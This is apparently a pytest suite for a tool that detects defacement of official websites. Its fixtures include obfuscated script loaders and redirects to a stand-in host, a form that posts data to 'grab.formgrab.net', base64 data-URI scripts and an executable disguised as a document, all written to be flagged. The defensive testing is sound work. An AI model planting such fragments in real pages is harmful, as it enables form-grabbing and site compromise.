"""What defacers add to a page that keeps its words; and what ordinary updates add."""

import pytest

from xuncha.model.outcome import Status
from xuncha_plugins.integrity.checks import injected, redirected
from xuncha_plugins.integrity.look_checks import replaced, title

ALL = [injected, redirected, replaced, title]
WHOLE = "position:fixed;top:0;left:0;width:100%;height:100%"


def keys(outcome):
    return [found.key for found in outcome.findings]


@pytest.mark.parametrize(
    ("check", "added", "key"),
    [
        (replaced, f'<div style="{WHOLE}"><img src="/up/x.jpg"></div>', "covered"),
        (replaced, f'<style>.ov{{{WHOLE}}}</style><div class="ov"></div>', "covered"),
        (replaced, "<style>body>*{display:none}</style>", "hidden"),
        (replaced, '<div><template shadowrootmode="open">x</template></div>', "shadowed"),
        (replaced, "<script>document.body.innerHTML='<img src=/up/x.jpg>'</script>", "wiped"),
        (replaced, "<h1>还我血汗钱</h1>", "heading"),
        (replaced, '<marquee><font size="6">还我血汗钱</font></marquee>', "heading"),
        (replaced, '<div style="font-size:60px;color:red">打倒贪官污吏 还我血汗钱</div>', "heading"),
        (replaced, '<p style="FONT-SIZE: 48pt">某某书记贪污受贿无人管</p>', "heading"),
        (replaced, '<div style="font:bold 5em/1 serif">Free us all! Stop it</div>', "heading"),
        (replaced, "<style>.a,#k{color:red;font-size:60px}</style><div id=k>还我血汗钱</div>", "heading"),
        (injected, "<script>window['loc'+'ation']['hr'+'ef']='//x.formgrab.net'</script>", "loader"),
        (injected, "<script>s.src='//'+['x','formgrab','net'].join('.')+'/a.js'</script>", "loader"),
        (injected, '<script type="importmap">{"imports":{"a":"https://x.formgrab.net/a.js"}}</script>', "loader"),
        (injected, '<a href="http://x.formgrab.top/43.html">示例县召开安全生产工作会议</a>', "links"),
        (replaced, "<p>打倒某某 某某下台</p>", "slogan"),
        (replaced, "<p>负责防治水旱灾害。本局领导集体贪污，欢迎举报。</p>", "slogan"),
        (injected, '<a href="http://www.aomen88.com/">百家乐开户</a>', "advert"),
        (title, "<script>document.title='欧亿注册'</script>", "scripted"),
        (injected, '<form><button formaction="http://grab.formgrab.net/p">x</button></form>', "form"),
        (injected, "<button onclick=\"this.form.action='http://grab.formgrab.net/p'\">x</button>", "loader"),
        (injected, '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>', "script"),
        (injected, '<svg><script href="http://grab.formgrab.net/a.js"></script></svg>', "script"),
        (injected, '<iframe src="data:text/html;base64,PGgxPng8L2gxPg=="></iframe>', "frame"),
        (injected, "<iframe src=\"javascript:'<h1>x</h1>'\"></iframe>", "frame"),
        (injected, '<script src="/upload/2026/a.js"></script>', "uploaded"),
        (injected, '<iframe src="/uploads/x.html"></iframe>', "uploaded"),
        (injected, '<a href="http://www.strangers.com/setup.exe">下载</a>', "download"),
        (injected, '<a href="/upload/2026/fj1.exe">1.报名表.doc</a>', "disguised"),
        (redirected, '<meta http-equiv="refresh" content="0;url=data:text/html,<h1>x</h1>">', "refresh"),
        (redirected, '<meta http-equiv="refresh" content="0;url=javascript:f()">', "refresh"),
    ],
)
def test_what_a_defacer_adds_is_asked_about(compared, made, check, added, key):
    outcome = compared(check, made.page(9, body=added))
    assert (set(keys(outcome)), outcome.status) == ({key}, Status.MANUAL)


@pytest.mark.parametrize("check", ALL)
@pytest.mark.parametrize(
    "added",
    [
        f'<div class="mask" style="display:none;{WHOLE}"></div>',
        f'<canvas style="{WHOLE};pointer-events:none"></canvas>',
        '<div style="position:fixed;right:0;bottom:80px;width:120px;height:300px"><img src="/up/p.jpg"></div>',
        "<style>@media print{body *{visibility:hidden}}</style>",
        "<script>var b=document.body.innerHTML;document.body.innerHTML=p;print();document.body.innerHTML=b</script>",
        '<h1><a href="/art/9.html">工作会议召开</a></h1>',
        "<h1>示例县教育局</h1>",
        '<marquee><a href="/art/9.html">关于调整办公地点的通知</a></marquee>',
        '<iframe src="javascript:void(0)"></iframe><iframe src="data:,"></iframe>',
        '<iframe src="/upload/2026/plan.pdf"></iframe>',
        '<a href="/upload/2026/fj1.doc">1.报名表.doc</a><a href="/upload/2026/tool.exe">报送软件</a>',
        '<a href="/upload/2026/biao.zip">下载</a><a href="http://www.partner.com/a.zip">下载</a>',
        '<a href="https://zwfw.sd.gov.cn/">政务服务</a><a href="http://www.partner.com/">合作单位</a>',
        '<div style="display:none">您访问的链接即将离开本网站</div>',
        '<div style="font-size:60px">热烈庆祝教师节</div><p style="font-size:16px">同胞们觉醒吧</p>',
        "<p>示例县革命历史纪念馆展出“打倒军阀”等标语</p>",
        "<p>县纪委监委通报：原局长王某受贿案一审宣判</p>",
        '<a href="http://www.partner.cc/">合作单位</a>',
        '<div style="display:none;font-size:60px">同胞们觉醒吧</div>',
        '<div style="font-size:60px"><a href="/art/9.html">同胞们觉醒吧</a></div>',
        "<style>.k{font-size:60px}</style>",
        "<script>var a=['b','c'];a['d']='//www.partner.com/'</script>",
        '<script type="importmap">{"imports":{"a":"/js/a.js"}}</script>',
    ],
)
def test_what_ordinary_updates_add_is_left_alone(compared, made, check, added):
    assert compared(check, made.page(9, body=added)).status is Status.PASS


def test_a_menu_entry_that_leads_elsewhere_is_asked_about(compared, made):
    now = made.page(9).replace('href="/col/4.html"', 'href="http://www.strangers.com/"')
    outcome = compared(injected, now)
    assert (keys(outcome), outcome.findings[0].params["words"].value) == (["led-out"], "政策文件")


def friend(url):
    return f'<a href="{url}">水利部</a>'


def test_a_link_to_a_ministry_that_leads_elsewhere_is_asked_about(compared, made):
    before = made.page(body=friend("http://www.mwr.gov.cn/"))
    assert keys(compared(injected, made.page(9, body=friend("http://www.strangers.com/")), before)) == ["swapped"]


@pytest.mark.parametrize(
    ("before", "now"),
    [("http://www.mwr.gov.cn/", "https://slb.gov.cn/"), ("http://www.paper.com/", "http://www.newpaper.cn/")],
)
def test_a_friend_that_moved_is_left_alone(compared, made, before, now):
    outcome = compared(injected, made.page(9, body=friend(now)), made.page(body=friend(before)))
    assert outcome.status is Status.PASS


def test_a_menu_entry_that_moved_to_a_state_body_is_left_alone(compared, made):
    now = made.page(9).replace('href="/col/4.html"', 'href="http://www.county.gov.cn/"')
    assert compared(injected, now).status is Status.PASS


def test_an_archive_that_was_the_sites_own_and_lies_elsewhere_is_asked_about(compared, made):
    link = '<a href="{}/biao.zip">申报表</a>'.format
    outcome = compared(injected, made.page(9, body=link("http://www.strangers.com")), made.page(body=link("/up")))
    assert "download" in keys(outcome)


def test_a_container_that_is_hidden_is_asked_about(compared, made):
    page = made.page(9)
    start, end = page.index('<ul id="menu">'), page.index('<div id="foot">')
    now = f'{page[:start]}<div style="display:none">{page[start:end]}</div><img src="/up/x.jpg">{page[end:]}'
    assert keys(compared(replaced, now)) == ["tucked"]


def test_a_menu_that_is_hidden_is_asked_about(compared, made):
    now = made.page(9).replace('<ul id="menu">', '<ul id="menu" style="display:none">')
    assert keys(compared(replaced, now)) == ["menu"]


def test_a_menu_that_is_there_a_second_time_for_mobiles_is_left_alone(compared, made):
    page = made.page(9)
    menu = page[page.index('<ul id="menu">') : page.index("</ul>") + 5]
    now = page.replace(menu, menu + menu.replace('id="menu"', 'id="mobile" style="display:none"'))
    assert compared(replaced, now).status is Status.PASS


def test_scripts_among_uploads_that_were_approved_are_left_alone(compared, made):
    script = '<script src="/upload/js/{}.js"></script>'.format
    assert compared(injected, made.page(9, body=script("b")), made.page(body=script("a"))).status is Status.PASS


def test_a_slogan_in_another_slogans_place_is_left_alone(compared, made):
    slogan = "<marquee>{}</marquee>".format
    before = made.page(body=slogan("热烈庆祝教师节"))
    assert compared(replaced, made.page(9, body=slogan("欢迎新同学到来")), before).status is Status.PASS


def test_a_picture_from_elsewhere_behind_the_page_is_asked_about(compared, made):
    now = made.page(9).replace("<body>", '<body style="background: url(&quot;http://x.formgrab.net/h.jpg&quot;)">')
    assert keys(compared(injected, now)) == ["banner"]


def test_a_picture_of_the_sites_own_behind_the_page_is_left_alone(compared, made):
    now = made.page(9).replace("<body>", "<body style=\"background:url('/images/spring.jpg')\">")
    assert compared(injected, now).status is Status.PASS


def test_large_words_in_place_of_others_that_a_style_made_large_are_left_alone(compared, made):
    banner = '<div style="font-size:60px">{}</div>'.format
    assert (
        compared(replaced, made.page(9, body=banner("同心同德再出发")), made.page(body=banner("江山如画"))).findings
        == ()
    )


def headlines(words):
    return [words.format(at) for at in range(12)]


@pytest.mark.parametrize("words", ["打倒某某者{}号公告", "请看某某人做的好事{}"])
def test_headlines_that_differ_by_a_number_are_asked_about(compared, made, words):
    rows = "".join(f'<p><a href="/x/{at}.html">{one}</a></p>' for at, one in enumerate(headlines(words)))
    assert "series" in keys(compared(replaced, made.page(9, body=rows)))


@pytest.mark.parametrize("words", ["示例县教育局招聘公示第{}批", "今日水情{}"])
def test_such_headlines_as_offices_write_are_left_alone(compared, made, words):
    rows = "".join(f'<p><a href="/x/{at}.html">{one}</a></p>' for at, one in enumerate(headlines(words)))
    assert "series" not in keys(compared(replaced, made.page(9, body=rows)))


def test_a_slogan_that_was_approved_is_left_alone(compared, made):
    body = "<p>展品：打倒某某传单</p>"
    assert compared(replaced, made.page(9, body=body), made.page(body=body)).status is Status.PASS


@pytest.mark.parametrize("now", ["蜀ICP备99999999号", ""])
def test_a_filing_number_of_another_province_or_none_is_asked_about(compared, made, now):
    assert keys(compared(replaced, made.page(9).replace("京ICP备12345678号", now))) == ["filing"]


def test_an_owner_of_several_filing_numbers_keeps_them(compared, made):
    foot = "主办：示例县教育局　京ICP备12345678号　京ICP备87654321号　网站标识码：1101000001"
    assert keys(compared(replaced, made.page(9, foot=foot), made.page(foot=foot))) == []


def test_a_filing_number_of_the_same_province_and_owner_is_left_alone(compared, made):
    assert compared(replaced, made.page(9).replace("12345678", "99999999")).status is Status.PASS


def test_a_filing_number_of_another_owner_is_asked_about(compared, made):
    foot = "主办：某某科技公司　京ICP备99999999号　网站标识码：1101000009"
    assert "filing" in keys(compared(replaced, made.page(9, foot=foot, title="某某科技")))


def test_a_site_code_of_another_city_is_asked_about(compared, made):
    assert keys(compared(replaced, made.page(9).replace("1101000001", "4403000001"))) == ["filing"]


@pytest.mark.parametrize("foot", ["主办：示例县教育和体育局　京ICP备12345678号-1　网站标识码：1101000001", ""])
def test_a_footer_without_numbers_or_with_the_same_is_left_alone(compared, made, foot):
    assert compared(replaced, made.page(9, foot=foot)).status is Status.PASS
